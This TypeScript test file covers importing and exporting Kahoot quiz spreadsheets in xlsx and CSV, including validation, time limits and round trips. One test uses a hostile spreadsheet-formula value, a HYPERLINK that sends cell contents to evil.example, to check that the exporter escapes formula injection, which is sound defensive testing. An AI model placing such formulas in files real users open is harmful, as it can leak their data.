import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { assemblePack, buildQuestions } from '../packs/build';
import { readKahootCsv, writeKahootCsv } from './kahoot-csv/csv';
import { KAHOOT_HEADERS, nearestKahootTime, readKahootRows } from './shared/kahoot-rows';
import { readKahootXlsx, writeKahootXlsx } from './kahoot-xlsx/xlsx';
import type { Question } from '../packs/schema';

const TEMPLATE = new URL(
  '../../../../tests/fixtures/formats/kahoot/KahootQuizTemplate.xlsx',
  import.meta.url
);
const toArrayBuffer = (bytes: Uint8Array) =>
  bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer;
const header = ['', ...KAHOOT_HEADERS];
const base = { skill: 'general', explanation: '' } as const;

describe('Kahoot spreadsheet import', () => {
  it('reads the Kahoot template: the example row 9 with four correct answers', async () => {
    const read = await readKahootXlsx(toArrayBuffer(readFileSync(TEMPLATE)));
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    expect(read.skipped).toEqual([]);
    expect(read.drafts).toHaveLength(1);
    expect(read.drafts[0].place).toEqual({ row: 9 });
    expect(read.drafts[0].fields).toMatchObject({
      type: 'choice',
      prompt: 'Which spreadsheet tools can read this sheet and export to xlsx format?',
      options: [
        { text: 'Excel', weight: 100 },
        { text: 'Google Docs' },
        { text: 'Numbers' },
        { text: 'LibreOffice' }
      ]
    });
  });

  it('reports rows with problems by row and column and keeps the good ones', () => {
    const rows = [
      header,
      [1, 'Good?', 'yes', 'no', '', '', 20, 1],
      [2, '', 'a', 'b', '', '', 20, '1'],
      [3, 'One answer only', 'a', '', '', '', 20, '1'],
      [4, 'Points at an empty answer', 'a', 'b', '', '', 20, '1,3'],
      [5, 'No correct', 'a', 'b', '', '', 20, ''],
      [6, 'Bad number', 'a', 'b', '', '', 20, 'two'],
      [7, 'Odd time', 'a', 'b', '', '', 45, '2'],
      [8, null, null, null, null, null, null, null]
    ];
    const read = readKahootRows(rows);
    expect(read.drafts.map((d) => d.place.row)).toEqual([2, 8]);
    expect(read.skipped.map((s) => [s.place.row, s.place.column])).toEqual([
      [3, 'B (Question)'],
      [4, 'D (Answer 2)'],
      [5, 'H (Correct answer(s))'],
      [6, 'H (Correct answer(s))'],
      [7, 'H (Correct answer(s))']
    ]);
    expect(read.skipped[2].message).toContain('answer 3 is empty');
    expect(read.warnings).toEqual([
      { place: { row: 8, column: 'G (Time limit)' }, message: expect.stringContaining('45') }
    ]);
  });

  it("keeps each row's time limit as the question's own", () => {
    const rows = [
      header,
      [1, 'Thirty', 'a', 'b', '', '', 30, 1],
      [2, 'Written out', 'a', 'b', '', '', '240 sec', 1],
      [3, 'Not Kahoot, but a time', 'a', 'b', '', '', 45, 1],
      [4, 'Too short', 'a', 'b', '', '', 3, 1],
      [5, 'Nonsense', 'a', 'b', '', '', 'soon', 1],
      [6, 'None', 'a', 'b', '', '', '', 1]
    ];
    const read = readKahootRows(rows);
    expect(read.drafts.map((d) => d.fields.timeLimit)).toEqual([
      30,
      240,
      45,
      undefined,
      undefined,
      undefined
    ]);
    expect(read.warnings.map((w) => [w.place.row, w.message])).toEqual([
      [4, expect.stringMatching(/^45 is not a Kahoot time limit .*; kept as it is$/)],
      [5, expect.stringMatching(/^3 is not a Kahoot time limit .*; left out, as it is not 5–240 seconds$/)],
      [6, expect.stringMatching(/^soon is not a Kahoot time limit .*; left out/)]
    ]);
    const built = buildQuestions(read.drafts, 'k');
    expect(built.skipped).toEqual([]);
    expect(built.questions[0].timeLimit).toBe(30);
    expect(built.questions[5]).not.toHaveProperty('timeLimit');
  });

  it('imports a 30-second question from an .xlsx sheet with its time limit', async () => {
    const pack = assemblePack({ id: 't', title: 'Timed' }, [
      {
        ...base,
        id: 'q30',
        type: 'choice',
        prompt: 'Quick one',
        multiple: false,
        options: [
          { text: 'yes', weight: 100 },
          { text: 'no', weight: 0 }
        ],
        timeLimit: 30
      }
    ]);
    const read = await readKahootXlsx(toArrayBuffer((await writeKahootXlsx(pack)).bytes));
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    expect(read.warnings).toEqual([]);
    expect(buildQuestions(read.drafts, 'k').questions[0]).toMatchObject({
      prompt: 'Quick one',
      timeLimit: 30
    });
  });

  it('reads CSV with the same columns, and a headerless CSV in the template order', () => {
    const csv = `${header.map((h) => `"${h}"`).join(',')}\n1,"Capital of France?",Paris,Rome,,,20,1\n`;
    const read = readKahootCsv(csv);
    expect(read.drafts[0].fields).toMatchObject({
      prompt: 'Capital of France?',
      options: [{ weight: 100 }, { weight: 0 }]
    });
    const bare = readKahootCsv('Capital of Italy?,Paris,Rome,,,20,2\n');
    expect(bare.drafts[0].fields).toMatchObject({ options: [{ weight: 0 }, { text: 'Rome', weight: 100 }] });
    expect(bare.warnings[0].place).toEqual({ row: 1 });
  });
});

describe('Kahoot export', () => {
  const questions: Question[] = [
    {
      ...base,
      id: 'a',
      type: 'choice',
      prompt: 'Pick',
      multiple: false,
      options: ['w', 'x', 'y', 'z', 'v'].map((t, i) => ({ text: t, weight: i === 4 ? 100 : 0 }))
    },
    { ...base, id: 'b', type: 'true-false', prompt: 'x'.repeat(130), answer: false },
    {
      ...base,
      id: 'c',
      type: 'numerical',
      prompt: 'How many?',
      answers: [{ value: 3, tolerance: 0, weight: 100 }]
    },
    {
      ...base,
      id: 'd',
      type: 'choice',
      prompt: 'Long',
      multiple: false,
      options: [
        { text: 'y'.repeat(80), weight: 100 },
        { text: 'n', weight: 0 }
      ]
    }
  ];
  const pack = assemblePack({ id: 'k', title: 'Kahoot test' }, questions);

  it('gives each question Kahoot cannot hold as it is one warning listing what changed', () => {
    const { text, warnings } = writeKahootCsv(pack);
    const messages = warnings.map((w) => `${w.place.field} ${w.message}`);
    expect(messages).toEqual([
      '$.questions[0] “Pick” has 5 answers, and Kahoot takes 4: “z” left out',
      `$.questions[1] “${'x'.repeat(39)}…” is written as a choice between True and False; has its text cut from 130 to 120 characters`,
      '$.questions[2] “How many?” is left out: it is not a choice question (numerical), and Kahoot quizzes take only those',
      '$.questions[3] “Long” has answer 1 cut from 80 to 75 characters'
    ]);
    const back = readKahootCsv(text);
    expect(back.skipped).toEqual([]);
    expect(back.warnings).toEqual([]);
    expect(back.drafts.map((d) => (d.fields.options as { text: string }[]).map((o) => o.text))).toEqual([
      ['w', 'x', 'y', 'v'],
      ['True', 'False'],
      [`${'y'.repeat(74)}…`, 'n']
    ]);
    expect(back.drafts[1].fields.prompt).toBe(`${'x'.repeat(119)}…`);
  });

  it('partial credit and negative marks are named: only the best answer stays right in a one-answer question', () => {
    const partial: Question = {
      ...base,
      id: 'p',
      type: 'choice',
      prompt: 'Capital of Australia?',
      multiple: false,
      options: [
        { text: 'Canberra', weight: 100 },
        { text: 'Sydney', weight: 50 },
        { text: 'Perth', weight: -25 }
      ]
    };
    const { text, warnings } = writeKahootCsv(assemblePack({ id: 'k2', title: 'Partial' }, [partial]));
    expect(warnings.map((w) => w.message)).toEqual([
      '“Capital of Australia?” loses partial credit: “Sydney” (50%) is now wrong; loses its negative marks (a wrong answer scores 0)'
    ]);
    const back = readKahootCsv(text);
    expect(back.drafts[0].fields.options).toEqual([
      { text: 'Canberra', weight: 100 },
      { text: 'Sydney', weight: 0 },
      { text: 'Perth', weight: 0 }
    ]);
  });

  it('writes an .xlsx in the template layout that reads back with the same questions', async () => {
    const fourOptions: Question = {
      ...base,
      id: 'e',
      type: 'choice',
      prompt: 'Pick',
      multiple: false,
      options: ['x', 'y', 'z', 'v'].map((text, i) => ({ text, weight: i === 3 ? 100 : 0 }))
    };
    const twoOptions: Question = { ...fourOptions, id: 'f', options: fourOptions.options.slice(2) };
    const simple = assemblePack({ id: 's', title: 'Simple' }, [twoOptions, fourOptions]);
    const { bytes } = await writeKahootXlsx(simple);
    const read = await readKahootXlsx(toArrayBuffer(bytes));
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    expect(read.drafts.map((d) => d.place.row)).toEqual([9, 10]);
    const back = buildQuestions(read.drafts, 'k').questions.map(({ id: _id, ...q }) => q);
    // A question without a time limit of its own is written with Kahoot's default, and comes back with it.
    expect(back).toEqual(simple.questions.map(({ id: _id, ...q }) => ({ ...q, timeLimit: 20 })));
  });

  it('writes a prompt or answer that starts like a formula as text, and reads its own file back unchanged', () => {
    const hostile: Question = {
      ...base,
      id: 'f',
      type: 'choice',
      prompt: '=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")',
      multiple: false,
      options: ['+1', '-40 degrees', '@SUM(A1:A9)', 'plain'].map((text, i) => ({
        text,
        weight: i === 3 ? 100 : 0
      }))
    };
    const { text } = writeKahootCsv(assemblePack({ id: 'h', title: 'Hostile' }, [hostile]));
    const [, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(row.slice(1, 6)).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A1,"Click for the answer")`,
      "'+1",
      "'-40 degrees",
      "'@SUM(A1:A9)",
      'plain'
    ]);
    const back = buildQuestions(readKahootCsv(text).drafts, 'k').questions.map(({ id: _id, ...q }) => q);
    expect(back).toEqual([{ ...hostile, id: undefined, timeLimit: 20 }].map(({ id: _id, ...q }) => q));
  });

  it("writes each question's time limit, rounding one Kahoot does not offer to the nearest, with a warning", () => {
    const timed = (id: string, prompt: string, timeLimit?: number): Question => ({
      ...base,
      id,
      type: 'true-false',
      prompt,
      answer: true,
      ...(timeLimit === undefined ? {} : { timeLimit })
    });
    const pack = assemblePack({ id: 't', title: 'Timed' }, [
      timed('a', 'Thirty seconds', 30),
      timed('b', 'Forty-five seconds is not a Kahoot time', 45),
      timed('c', 'No limit of its own'),
      timed('d', 'Seven', 7)
    ]);
    const { text, warnings } = writeKahootCsv(pack);
    expect(readKahootCsv(text).drafts.map((d) => d.fields.timeLimit)).toEqual([30, 60, 20, 5]);
    const timeWarnings = warnings.filter((w) => /time limit/.test(w.message));
    expect(timeWarnings).toEqual([
      {
        place: { field: '$.questions[1]' },
        message:
          '“Forty-five seconds is not a Kahoot time” is written as a choice between True and False; has a 45-second time limit, which Kahoot does not offer: written as 60 seconds'
      },
      {
        place: { field: '$.questions[3]' },
        message: expect.stringMatching(/^“Seven” .*; has a 7-second .*: written as 5 seconds$/)
      }
    ]);
  });

  it('rounds to the nearest Kahoot time, the longer one when halfway', () => {
    expect([5, 7, 8, 14, 15, 16, 25, 45, 100, 105, 180, 240].map(nearestKahootTime)).toEqual([
      5, 5, 10, 10, 20, 20, 30, 60, 90, 120, 240, 240
    ]);
  });

  it('refuses a file that is not a spreadsheet', async () => {
    const read = await readKahootXlsx(toArrayBuffer(new TextEncoder().encode('PK not really a zip')));
    expect(read).toMatchObject({ ok: false, problems: [{ place: { row: 1 } }] });
  });
});

describe('Kahoot header without a correct-answer column', () => {
  it('names the missing column instead of a letter', () => {
    const read = readKahootRows([
      ['Question', 'Answer 1', 'Answer 2'],
      ['Q?', 'a', 'b']
    ]);
    expect(read.skipped).toEqual([
      {
        place: { row: 2, column: 'Correct answer(s) (the header has no such column)' },
        message: expect.stringContaining('no correct answer')
      }
    ]);
  });
});
